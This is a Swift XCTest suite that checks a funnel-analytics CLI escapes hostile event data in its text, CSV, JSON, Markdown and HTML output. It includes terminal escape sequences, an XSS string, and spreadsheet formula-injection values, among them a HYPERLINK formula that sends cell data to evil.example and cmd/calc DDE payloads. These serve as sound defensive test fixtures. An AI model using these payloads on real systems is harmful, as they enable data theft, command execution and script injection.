import Foundation
import XCTest
import TestSupport

/// Event data is data, wherever it is shown (docs/security.md): the hostile log
/// Tests/Fixtures/hostile.ndjson (flow `mini`) puts ESC, BEL, C1 and bidi controls, spreadsheet
/// formulas, HTML, `|` and 36-character ids in user ids, steps, answers, app versions, event
/// and flag names; every command shows them escaped and keeps its columns.
final class HostileDataTests: XCTestCase {
    static let fixtures = packageRoot.appendingPathComponent("Tests/Fixtures")
    static let log = fixtures.appendingPathComponent("hostile.ndjson").path
    /// The user whose id retitles the window, then turns the text red.
    static let titleUser = "u-\u{1B}]0;pwned\u{07}\u{1B}[31m"
    static let titleUserShown = #"u-\x1B]0;pwned\x07\x1B[31m"#

    /// The hostile log ingested once, and what ingest printed.
    static let ingested: (store: String, result: RunResult?) = {
        let store = tempDir().appendingPathComponent("hostile.sqlite").path
        let r = try? runFunnel(["ingest", "--store", store, "--flows", fixtures.path, log])
        return (store, r)
    }()

    func run(_ args: [String], expect status: Int32 = 0, file: StaticString = #filePath, line: UInt = #line) throws -> String {
        let r = try runFunnel(args + ["--store", Self.ingested.store, "--flows", Self.fixtures.path])
        XCTAssertEqual(r.status, status, "\(args): \(r.stderr)", file: file, line: line)
        assertInert(r.stderr, "\(args) stderr", file: file, line: line)
        return r.stdout
    }

    /// No character a terminal acts on (C0 but newline, DEL, C1, bidi controls), and no line
    /// over 80 columns.
    func assertInert(_ text: String, _ label: String, width: Int? = nil, file: StaticString = #filePath, line: UInt = #line) {
        let active = text.unicodeScalars.filter { s in
            (s.value < 0x20 && s != "\n") || (0x7F...0x9F).contains(s.value) || [0x202E, 0x2066, 0x200F].contains(s.value)
        }
        XCTAssertEqual(active.map { String(format: "U+%04X", $0.value) }, [], "\(label): \(text)", file: file, line: line)
        guard let width else { return }
        for l in text.split(separator: "\n") where l.count > width {
            XCTFail("\(label): \(l.count) columns: \(l)", file: file, line: line)
        }
    }

    func testIngestShowsEscapedNames() throws {
        let r = try XCTUnwrap(Self.ingested.result)
        XCTAssertEqual(r.status, 0, r.stderr)
        assertInert(r.stdout, "ingest")
        XCTAssertTrue(r.stdout.contains("  accepted              116\n"), r.stdout)
        XCTAssertTrue(r.stdout.contains("\n    mini/step\\x1B[1A onboarding.step_viewed  1\n"), r.stdout)
        // The unplanned event's name, escaped, among the unplanned.
        XCTAssertTrue(r.stdout.contains(#"mini/weightGoal onboarding.\x1B]0;x\x07<script>  1"#), r.stdout)
    }

    func testUsersTextEscapesAndFitsEightyColumns() throws {
        let text = try run(["users", "--flow", "mini"])
        assertInert(text, "users", width: 80)
        let lines = text.split(separator: "\n").map(String.init)
        XCTAssertEqual(lines.first, "9 users · mini · as of 2026-10-01T16:01:03.000Z")
        // The header and every row: the state column starts at the same column.
        let header = try XCTUnwrap(lines.first { $0.hasPrefix("user ") })
        let stateColumn = try XCTUnwrap(header.range(of: "state")).lowerBound.utf16Offset(in: header)
        let rows = lines.filter { $0.contains(" completed ") || $0.contains(" in_progress ") || $0.contains(" abandoned ") }
        XCTAssertEqual(rows.count, 9, text)
        for row in rows {
            let cell = String(row.prefix(stateColumn))
            XCTAssertTrue(cell.hasSuffix("  "), "no gap before the state column: \(row)")
            XCTAssertFalse(row.dropFirst(stateColumn).hasPrefix(" "), "state not aligned: \(row)")
        }
        // A 36-character id is cut to fit (never inside an escape); the escaped id is shown whole.
        XCTAssertTrue(rows.contains { $0.hasPrefix("3f2b8c1e-9a4d-4e7b-b1c2-5d…  completed    completion    ") }, text)
        XCTAssertTrue(rows.contains { $0.hasPrefix(Self.titleUserShown) }, text)
        XCTAssertTrue(rows.contains { $0.hasPrefix(#"c1\u009B31m-bidi\u202Eevil"#) }, text)
        XCTAssertFalse(rows.contains { $0.range(of: #"\\x1?$|\\x1B?…|\\u[0-9A-F]{0,3}…"#, options: .regularExpression) != nil }, text)
        XCTAssertTrue(text.hasSuffix("(user ids cut to fit 80 columns: --format csv or json lists them whole)\n"), text)
    }

    func testUsersCSVNeutralisesFormulasAndKeepsIDsWhole() throws {
        let csv = try run(["users", "--flow", "mini", "--format", "csv"])
        let lines = csv.split(separator: "\n").map(String.init)
        XCTAssertEqual(lines.count, 10)
        XCTAssertTrue(lines.contains { $0.hasPrefix(#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")",in_progress,"#) }, csv)
        XCTAssertTrue(lines.contains { $0.hasPrefix(#"'+cmd|' /C calc'!A0,abandoned,"#) || $0.hasPrefix(#"'+cmd|' /C calc'!A0,in_progress,"#) }, csv)
        XCTAssertTrue(lines.contains { $0.hasPrefix(#"'@SUM(1+1)*cmd|' /C calc'!A0,completed,"#) }, csv)
        XCTAssertTrue(lines.contains { $0.hasPrefix(#"'-2+3+cmd|' /C calc'!A0,"#) }, csv)
        XCTAssertTrue(lines.contains { $0.hasPrefix("3f2b8c1e-9a4d-4e7b-b1c2-5d6e7f8a9b0c,completed,") }, csv)
        XCTAssertTrue(lines.contains { $0.hasPrefix(Self.titleUserShown + ",completed,") }, csv)
        // No cell starts with a formula character.
        for line in lines.dropFirst() {
            XCTAssertFalse(["=", "+", "-", "@", "\t", "\r"].contains(line.first.map(String.init) ?? ""), line)
            XCTAssertFalse(line.hasPrefix("\"="), line)
        }
        assertInert(csv, "users csv")
        // --raw-csv: the values as they are.
        let raw = try run(["users", "--flow", "mini", "--format", "csv", "--raw-csv"])
        XCTAssertTrue(raw.contains("\n" + #""=HYPERLINK(""http://evil.example/?""&A1,""click"")",in_progress,"#), raw)
        XCTAssertTrue(raw.contains("\n" + Self.titleUser + ",completed,"), raw)
        XCTAssertTrue(raw.contains("\n-2+3+cmd|' /C calc'!A0,"), raw)
    }

    func testUsersJSONKeepsIDsWhole() throws {
        let o = try jsonObject(try run(["users", "--flow", "mini", "--format", "json"]))
        let ids = try XCTUnwrap(o["users"] as? [[String: Any]]).compactMap { $0["user_id"] as? String }
        XCTAssertTrue(ids.contains(Self.titleUser))
        XCTAssertTrue(ids.contains("3f2b8c1e-9a4d-4e7b-b1c2-5d6e7f8a9b0c"))
        XCTAssertTrue(ids.contains("c1\u{9B}31m-bidi\u{202E}evil"))
    }

    func testReportTextEscapesDriftAndHeadings() throws {
        let text = try run(["report", "--flow", "mini", "--by", "app_version"])
        assertInert(text, "report --by app_version", width: 80)
        XCTAssertTrue(text.contains("\napp_version = 3.1\\x1B[2J\n"), text)
        XCTAssertTrue(text.contains("\napp_version = <img src=x onerror=alert(1)>|v\n"), text)
        XCTAssertTrue(text.contains(#"• step step\x1B[1A viewed: not in the flow"#), text)
        XCTAssertTrue(text.contains(#"• flag evil\x07flag|x: sent in context.flags, not declared by the flow"#), text)
        // The group table: the hostile version cut to its 12 columns, never inside an escape.
        XCTAssertTrue(text.contains("\n3.1\\x1B[2J  "), text)
        XCTAssertTrue(text.contains("\n<img src=x …"), text)
    }

    func testReportMarkdownEscapesHTMLAndPipes() throws {
        let md = try run(["report", "--flow", "mini", "--by", "app_version", "--format", "markdown"])
        assertInert(md, "report markdown")
        XCTAssertFalse(md.contains("<img"), md)
        XCTAssertFalse(md.contains("<b>"), md)
        XCTAssertTrue(md.contains("\n## app\\_version = &lt;img src=x onerror=alert(1)&gt;\\|v\n"), md)
        XCTAssertTrue(md.contains("\n## app\\_version = 3.1\\\\x1B\\[2J\n"), md)
        // Every row of the drift table has its six cells: no `|` of a value splits one.
        let drift = md.components(separatedBy: "## Drift")[1].components(separatedBy: "\n\n")[1]
        let rows = drift.split(separator: "\n").map(String.init)
        XCTAssertGreaterThanOrEqual(rows.count, 6, drift)
        for row in rows {
            let cells = row.replacingOccurrences(of: "\\|", with: "").split(separator: "|", omittingEmptySubsequences: false)
            XCTAssertEqual(cells.count, 8, row)
        }
        XCTAssertTrue(drift.contains(#"flag evil\\x07flag\|x: sent in context.flags"#), drift)
        XCTAssertTrue(drift.contains("&lt;img src=x onerror=alert(1)&gt;"), drift)
    }

    func testReportAndDriftCSVNeutraliseFormulas() throws {
        let csv = try run(["report", "--flow", "mini", "--format", "csv"])
        XCTAssertTrue(csv.contains(#"drift,,"'=HYPERLINK(""http://evil.example"",""s"")",step_not_in_flow,"#), csv)
        XCTAssertTrue(csv.contains("\ndrift,,,unlisted_value,weightGoal = <img src=x onerror=alert(1)>,,1,"), csv)
        XCTAssertTrue(csv.contains(#"\#ndrift,,step\x1B[1A,step_not_in_flow,,,1,"#), csv)
        assertInert(csv, "report csv")
        let raw = try run(["report", "--flow", "mini", "--format", "csv", "--raw-csv"])
        XCTAssertTrue(raw.contains(#"drift,,"=HYPERLINK(""http://evil.example"",""s"")",step_not_in_flow,"#), raw)
        let drift = try run(["flows", "drift", "--flow", "mini", "--format", "csv"], expect: 1)
        XCTAssertTrue(drift.contains(#"step_not_in_flow,,,"'=HYPERLINK(""http://evil.example"",""s"")","#), drift)
        XCTAssertTrue(drift.contains("\nunlisted_value,weightGoal,<img src=x onerror=alert(1)>,,,,,1,0,"), drift)
        XCTAssertTrue(drift.contains(#"undeclared_flag,,,,,,evil\x07flag|x,1,"#), drift)
        assertInert(drift, "flows drift csv")
        let rawDrift = try run(["flows", "drift", "--flow", "mini", "--format", "csv", "--raw-csv"], expect: 1)
        XCTAssertTrue(rawDrift.contains("undeclared_flag,,,,,,evil\u{07}flag|x,1,"), rawDrift)
    }

    func testFlowsDriftTextEscapes() throws {
        let text = try run(["flows", "drift", "--flow", "mini"], expect: 1)
        assertInert(text, "flows drift", width: 80)
        XCTAssertTrue(text.contains(#"step step\x1B[1A viewed: not in the flow"#), text)
        XCTAssertTrue(text.contains(#"event onboarding.\x1B]0;x\x07<script>: not an onboarding event"#), text)
        XCTAssertTrue(text.contains("app 3.1\\x1B[2J"), text)
    }

    func testReplayEscapes() throws {
        let text = try run(["replay", "--user", Self.titleUser])
        assertInert(text, "replay", width: 80)
        XCTAssertTrue(text.hasPrefix(Self.titleUserShown + " · Mini (mini)\n"), text)
        XCTAssertTrue(text.contains(#"step\x1B[1A"#), text)
        // An unknown user's "did you mean" lists stored ids: escaped too.
        let r = try runFunnel(["replay", "--store", Self.ingested.store, "--user", "u-"])
        XCTAssertEqual(r.status, 2, r.stderr)
        assertInert(r.stderr, "replay unknown user")
        XCTAssertTrue(r.stderr.contains(Self.titleUserShown), r.stderr)
    }

    func testExplainEscapes() throws {
        let text = try run(["explain", "--flow", "mini", "--step", "weightGoal"])
        assertInert(text, "explain", width: 80)
        let md = try run(["explain", "--flow", "mini", "--step", "weightGoal", "--format", "markdown"])
        assertInert(md, "explain markdown")
        XCTAssertFalse(md.contains("<img"), md)
    }

    /// The HTML report of the hostile log, in a real browser: no element from the data, the
    /// payloads shown as text, and the page's title not changed by a handler.
    func testHTMLReportInChromium() throws {
        let page = tempDir().appendingPathComponent("hostile.html")
        _ = try run(["report", "--flow", "mini", "--by", "app_version", "--output", page.path])
        let html = try String(contentsOf: page, encoding: .utf8)
        XCTAssertTrue(html.hasPrefix("<!DOCTYPE html>"), "the format follows the .html extension")
        assertInert(html, "html")
        XCTAssertTrue(html.contains("&lt;img src=x onerror=alert(1)&gt;|v"), "the version, escaped")
        guard let browser = Chromium.path else { throw XCTSkip("chromium is not on PATH") }
        let (status, dom) = try Chromium.run(browser, ["--virtual-time-budget=3000", "--dump-dom", page.absoluteString])
        XCTAssertEqual(status, 0, dom)
        XCTAssertTrue(dom.contains("</main>"), dom.suffix(2000).description)
        XCTAssertFalse(dom.lowercased().contains("<img"), "an img element from the data")
        XCTAssertFalse(dom.lowercased().contains("<script"), "a script element from the data")
        XCTAssertTrue(dom.contains("&lt;img src=x onerror=alert(1)&gt;|v"))
    }
}
